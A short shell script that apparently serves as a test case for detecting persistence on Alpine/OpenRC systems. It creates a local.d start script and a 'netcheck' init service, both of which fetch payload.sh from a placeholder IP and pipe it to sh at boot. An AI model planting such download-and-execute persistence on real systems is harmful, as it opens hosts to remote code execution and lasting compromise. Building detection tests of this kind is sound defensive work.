#!/bin/sh
. /opt/case/case.sh

mkdir -p /etc/local.d /etc/runlevels/default /etc/init.d
printf '#!/bin/sh\n(wget -qO- http://203.0.113.10/payload.sh | sh) &\n' >/etc/local.d/net.start
chmod +x /etc/local.d/net.start
printf '#!/sbin/openrc-run\ncommand=/bin/sh\ncommand_args="-c \\"wget -qO- 203.0.113.10/payload.sh|sh\\""\ncommand_background=true\n' >/etc/init.d/netcheck
chmod +x /etc/init.d/netcheck
ln -s /etc/init.d/netcheck /etc/runlevels/default/netcheck
ln -s /etc/init.d/local /etc/runlevels/default/local
test -x /etc/local.d/net.start
took_place
